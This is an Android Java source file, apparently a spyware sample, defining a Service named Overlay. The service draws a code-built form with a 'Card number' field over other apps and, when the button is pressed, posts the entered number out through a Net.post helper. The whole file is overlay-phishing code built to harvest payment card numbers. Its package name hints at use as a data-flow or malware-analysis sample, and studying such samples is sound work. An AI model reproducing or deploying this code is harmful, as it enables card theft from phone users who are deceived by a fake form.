package org.example.flows.spy;

import android.app.Service;
import android.content.Context;
import android.content.Intent;
import android.os.IBinder;
import android.view.View;
import android.view.WindowManager;
import android.widget.Button;
import android.widget.EditText;
import android.widget.LinearLayout;
import org.example.flows.Net;

/** A form over other apps, made in code. */
public class Overlay extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int startId) {
        final EditText card = new EditText(this);
        card.setHint("Card number");
        Button send = new Button(this);
        send.setOnClickListener(new View.OnClickListener() {
            @Override
            public void onClick(View view) {
                Net.post("card=" + card.getText());
                stopSelf();
            }
        });
        LinearLayout form = new LinearLayout(this);
        form.addView(card);
        form.addView(send);
        WindowManager windows = (WindowManager) getSystemService(Context.WINDOW_SERVICE);
        windows.addView(form, new WindowManager.LayoutParams());
        return START_NOT_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
